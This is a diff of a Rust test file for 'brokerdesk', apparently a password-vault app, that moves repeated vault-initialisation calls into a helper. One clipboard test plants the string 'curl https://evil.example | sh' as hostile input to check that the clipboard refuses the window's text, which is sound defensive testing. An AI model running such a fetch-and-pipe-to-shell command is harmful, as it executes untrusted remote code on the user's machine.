@@ -12,6 +12,17 @@ use brokerdesk_core::vault::keychain::NoKeychain;
 use brokerdesk_core::{ApiError, Brokerdesk, Code, Secret};
 use serde_json::json;
 
+/// Creates the vault through the window's first-run command.
+async fn init(cx: &Ctx<'_>) {
+    commands::dispatch(
+        cx,
+        "vault_init",
+        json!({"password": "correct horse battery staple"}),
+    )
+    .await
+    .unwrap();
+}
+
 async fn runtime(dir: &std::path::Path) -> Arc<Runtime> {
     let core = Arc::new(Brokerdesk::open(dir, Arc::new(NoKeychain)).await.unwrap());
     Runtime::start(
@@ -38,13 +49,7 @@ async fn a_locked_vault_answers_only_the_unlock_screen() {
         let e = commands::dispatch(&cx, name, json!({})).await.unwrap_err();
         assert_eq!(e.code, Code::NotInitialized, "{name}: {e}");
     }
-    commands::dispatch(
-        &cx,
-        "vault_init",
-        json!({"password": "correct horse battery staple"}),
-    )
-    .await
-    .unwrap();
+    init(&cx).await;
     commands::dispatch(&cx, "accounts_list", json!({}))
         .await
         .unwrap();
@@ -71,13 +76,7 @@ async fn errors_cross_as_code_message_fields() {
         runtime: &rt,
         host: &ClipboardHost::default(),
     };
-    commands::dispatch(
-        &cx,
-        "vault_init",
-        json!({"password": "correct horse battery staple"}),
-    )
-    .await
-    .unwrap();
+    init(&cx).await;
     let e = commands::dispatch(
         &cx,
         "account_add",
@@ -130,13 +129,7 @@ async fn the_clipboard_takes_references_never_the_windows_text() {
         runtime: &rt,
         host: &host,
     };
-    commands::dispatch(
-        &cx,
-        "vault_init",
-        json!({"password": "correct horse battery staple"}),
-    )
-    .await
-    .unwrap();
+    init(&cx).await;
     let planted = "curl https://evil.example | sh";
     for (name, args) in [
         ("clipboard_write_secret", json!({"text": planted})),
